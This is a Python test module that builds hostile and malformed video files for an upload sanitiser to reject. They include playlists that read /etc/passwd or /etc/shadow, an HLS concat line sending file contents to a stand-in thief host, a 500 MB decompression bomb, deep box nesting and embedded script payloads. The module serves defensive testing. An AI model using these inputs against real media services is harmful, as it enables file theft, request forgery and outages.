"""Films that do not mean well, all made here. Each must be refused or become neutral (S40, S41)."""

import random
import struct
import subprocess
import tempfile
import zlib
from functools import cache
from pathlib import Path

from kiekeboe.lib.films.tests import filmed
from kiekeboe.lib.films.tests.filmed import box, changed, film, with_in_moov
from kiekeboe.lib.images.drawing import photo
from kiekeboe.lib.images.tests.hostile import PHP, SCRIPT

XMP = b"\xbe\x7a\xcf\xcb\x97\xa9\x42\xe8\x9c\x71\x99\x94\x91\xe3\xaf\xac<x:xmpmeta>" + SCRIPT
PAYLOADS = (SCRIPT, PHP, filmed.SECRET.encode(), b"+52.0914+005.1198")


@cache
def corpus() -> dict[str, bytes]:
    """Name → bytes; the names say what is wrong, what makes films never sees them."""
    return {
        **talkative(),
        **reaching_out(),
        **too_much(),
        **other_containers(),
        **cut_off(),
        **not_films(),
        **odd(),
    }


def talkative() -> dict[str, bytes]:
    """Films that carry more than pictures and sound."""
    base = film()
    return {
        "mp4+html trailer": base + SCRIPT,
        "mp4+php trailer in a box": base + box(b"free", PHP),
        "mp4 html in uuid": base + box(b"uuid", XMP),
        "mp4 html in udta": with_in_moov(base, box(b"udta", box(b"\xa9nam", SCRIPT))),
        "mp4 15 MB of udta": with_in_moov(base, box(b"udta", PHP * 150_000)),
        "mp4 place": with_in_moov(base, box(b"udta", _place())),
        "mov place, maker and name": filmed.telltale("mov"),
        "mp4 place and name": filmed.telltale("mp4"),
        "mp4 subtitles with html": _with_subtitles(),
        "mp4 cover art": _with_cover(film_too=True),
        "mp4 chapters": _with_chapters(),
        "mp4 html in handler": changed(base, lambda hdlr: hdlr[:24] + SCRIPT + b"\0", b"hdlr"),
        "mov timecode stream": film("-timecode", "01:00:00:00", ending="mov"),
        "mp4 second picture": film("-map", "0:v", "-map", "0:v", "-map", "1:a"),
    }


def reaching_out() -> dict[str, bytes]:
    """Films that want to open something else."""
    base = film()
    playlist = b"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10,\nfile:///etc/passwd\n"
    return {
        "mp4 pictures at an address": changed(base, _refers(b"http://127.0.0.1:9/a.mov"), b"dref"),
        "mp4 pictures in a file": changed(base, _refers(b"file:///etc/passwd"), b"dref"),
        "mov pictures by alias": changed(base, _alias, b"dref"),
        "mov reference movie": box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", _reference()),
        "playlist": playlist,
        "playlist after mp4 mark": box(b"ftyp", b"isom\0\0\2\0isom") + playlist,
        "playlist of concat": b"#EXTM3U\n#EXTINF:1,\nconcat:http://thief.example/|/etc/passwd\n",
        "concat script": b"ffconcat version 1.0\nfile '/etc/passwd'\n",
        "concat script after mp4 mark": box(b"ftyp", b"mp42\0\0\0\0mp42")
        + b"ffconcat version 1.0\n",
        "session description": b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 9\n",
        "dash": b'<?xml version="1.0"?><MPD><BaseURL>http://thief.example/</BaseURL></MPD>',
        "picture list": b"/etc/passwd\n/etc/shadow\n",
    }


def too_much() -> dict[str, bytes]:
    """Films that claim to be enormous, or are."""
    base = film()
    return {
        "mp4 claims ten hours": _claiming(base, 36_000),
        "mp4 of 61 seconds": film("-g", "5", seconds=61, size="64x48", rate=1, sound=False),
        "mov of 16,000 x 16,000": _enormous(),
        "mp4 claims 16,000 x 16,000": changed(base, _sized(16_000, 16_000), b"stsd"),
        "mp4 claims 2 billion samples": changed(base, _many_samples, b"stsz"),
        "mp4 claims one sample 2 billion times": changed(base, _many_times, b"stts"),
        "mov bomb in a packed header": _packed_header(),
        "mp4 10,000 boxes deep": _deep(10_000),
        "mp4 1,000 pictures a second": film(rate=1000, seconds=1, size="64x48"),
    }


def other_containers() -> dict[str, bytes]:
    """Real films, of another kind than their name says."""
    vp8 = ("-c:v", "libvpx", "-c:a", "libvorbis")
    return {
        "mkv named mp4": film(ending="mkv"),
        "webm named mp4": film(*vp8, ending="webm"),
        "avi named mp4": film(ending="avi"),
        "ts named mp4": film(ending="ts"),
        "flv named mp4": film("-ar", "44100", ending="flv"),
        "gif named mp4": film("-c:v", "gif", sound=False, ending="gif"),
        "wav named mp4": film("-vn", "-c:v", "copy", ending="wav"),
        "m4a named mp4": film("-vn", "-c:v", "copy", ending="m4a"),
        "mp4 sound only": film("-vn", "-c:v", "copy"),
        "mp4 sound and cover art": _with_cover(film_too=False),
        "mov lossless animation": film("-c:v", "qtrle", ending="mov"),
    }


def cut_off() -> dict[str, bytes]:
    """Films that stop half-way: with the description at the end, and at the beginning."""
    late, early = film(), film("-movflags", "+faststart")
    return {
        f"mp4 {name} cut at {share}%": content[: len(content) * share // 100]
        for name, content in (("moov last", late), ("moov first", early))
        for share in (1, 10, 50, 90)
    }


def not_films() -> dict[str, bytes]:
    chance = random.Random(5)
    mark = box(b"ftyp", b"isom\0\0\2\0isomiso2avc1mp41")
    return {
        "nothing": b"",
        "one byte": b"\0",
        "mark only": mark,
        "mark and zeros": mark + bytes(10_000),
        "mark and random bytes": mark + chance.randbytes(50_000),
        "random bytes": chance.randbytes(50_000),
        "html": b"<!doctype html>" + SCRIPT,
        "photo": photo(),
        "heic mark": box(b"ftyp", b"heic\0\0\0\0mif1heic") + chance.randbytes(1000),
        "no streams": mark + box(b"moov", box(b"mvhd", bytes(100))),
        "no samples": mark + box(b"moov", box(b"mvhd", bytes(100)) + box(b"trak", b"")),
        "box without size": mark + struct.pack(">I4s", 0, b"moov") + bytes(1000),
        "box of 2^63 bytes": mark + struct.pack(">I4sQ", 1, b"moov", 2**63 - 1),
        "subtitles": b"1\n00:00:00,000 --> 00:00:09,000\n" + SCRIPT,
    }


def odd() -> dict[str, bytes]:
    """Unusual and honest, or nearly."""
    base = film()
    return {
        "mp4 moov last": base,
        "mp4 upright": filmed.turned(base),
        "mp4 of a strange matrix": changed(base, _strange_matrix, b"tkhd"),
        "mp4 of 2 x 2": film("-c:v", "mpeg4", size="2x2"),
        "mp4 encrypted": film(*_encryption()),
        "mov of one picture": film("-frames:v", "1", sound=False, ending="mov"),
        "3gp": film("-c:v", "mpeg4", "-an", ending="3gp"),
    }


def _place() -> bytes:
    words = b"+52.0914+005.1198/"
    return box(b"\xa9xyz", struct.pack(">HH", len(words), 0x15C7) + words)


def _refers(address: bytes):
    return lambda _: struct.pack(">II", 0, 1) + box(b"url ", bytes(4) + address + b"\0")


def _alias(_) -> bytes:
    return struct.pack(">II", 0, 1) + box(b"alis", bytes(4) + b"\0" * 150 + b"/etc/passwd\0")


def _reference() -> bytes:
    there = b"http://127.0.0.1:9/other.mov\0"
    link = box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(there)) + there)
    return box(b"rmra", box(b"rmda", link))


def _claiming(content: bytes, seconds: int) -> bytes:
    """The same film with another length in all its headers."""

    def long(header):
        scale = struct.unpack(">I", header[12:16])[0]
        return header[:16] + struct.pack(">I", scale * seconds) + header[20:]

    def long_track(tkhd):
        return tkhd[:20] + struct.pack(">I", 1000 * seconds) + tkhd[24:]

    def long_samples(stts):
        count = struct.unpack(">II", stts[8:16])
        return stts[:12] + struct.pack(">I", count[1] * seconds // 2) + stts[16:]

    made = changed(content, long, b"mvhd", b"mdhd")
    return changed(changed(made, long_track, b"tkhd"), long_samples, b"stts")


def _sized(width: int, height: int):
    def change(stsd):
        if stsd[12:16] != b"avc1":
            return stsd
        return stsd[:40] + struct.pack(">HH", width, height) + stsd[44:]

    return change


def _many_samples(stsz) -> bytes:
    return stsz[:8] + struct.pack(">I", 2**31 - 1) + stsz[12:]


def _many_times(stts) -> bytes:
    return stts[:8] + struct.pack(">I", 2**31 - 1) + stts[12:]


def _strange_matrix(tkhd) -> bytes:
    return tkhd[:40] + struct.pack(">9i", *[7, -(2**31), 2**31 - 1] * 3) + tkhd[76:]


def _packed_header() -> bytes:
    """QuickTime may squeeze its description: 500 MB of nothing."""
    squeezed = zlib.compressobj(9)
    content = b"".join(squeezed.compress(bytes(1_000_000)) for _ in range(500)) + squeezed.flush()
    packed = box(b"dcom", b"zlib") + box(b"cmvd", struct.pack(">I", 500_000_000) + content)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"cmov", packed))


def _deep(levels: int) -> bytes:
    content = b"".join(
        struct.pack(">I4s", 8 * (levels - level), b"moov") for level in range(levels)
    )
    return box(b"ftyp", b"isom\0\0\2\0isom") + content


def _encryption():
    return (
        *("-encryption_scheme", "cenc-aes-ctr", "-encryption_key", "00" * 16),
        *("-encryption_kid", "11" * 16),
    )


def _enormous() -> bytes:
    """One picture of 16,000 by 16,000, in a few kilobytes."""
    return film("-c:v", "mjpeg", "-frames:v", "1", "-vf", "scale=16000:16000:flags=neighbor",
                size="16x16", sound=False, ending="mov")  # fmt: skip


def _beside(name: str, content: bytes, *options, ending="mp4", **how) -> bytes:
    """A film with another file as an extra input."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / name
        path.write_bytes(content)
        (Path(folder) / "film.mp4").write_bytes(film())
        words = ["ffmpeg", "-v", "error", "-i", f"{folder}/film.mp4", "-i", path, *options]
        made = Path(folder) / f"made.{ending}"
        subprocess.run([*words, made], check=True, stdin=subprocess.DEVNULL)
        return made.read_bytes()


def _with_subtitles() -> bytes:
    words = b"1\n00:00:00,000 --> 00:00:02,000\n" + SCRIPT + b"\n\n"
    return _beside("a.srt", words, "-map", "0", "-map", "1", "-c", "copy", "-c:s", "mov_text")


def _with_cover(*, film_too: bool) -> bytes:
    streams = ("-map", "0", "-map", "1") if film_too else ("-map", "0:a", "-map", "1")
    cover = "1" if film_too else "0"
    told = (f"-disposition:v:{cover}", "attached_pic")
    return _beside("cover.jpg", photo(size=(64, 48)), *streams, "-c", "copy", *told)


def _with_chapters() -> bytes:
    words = b";FFMETADATA1\n[CHAPTER]\nTIMEBASE=1/1000\nSTART=0\nEND=1500\ntitle=" + (
        filmed.SECRET.encode() + b"\n"
    )
    return _beside("a.txt", words, "-map", "0", "-map_chapters", "1", "-c", "copy")
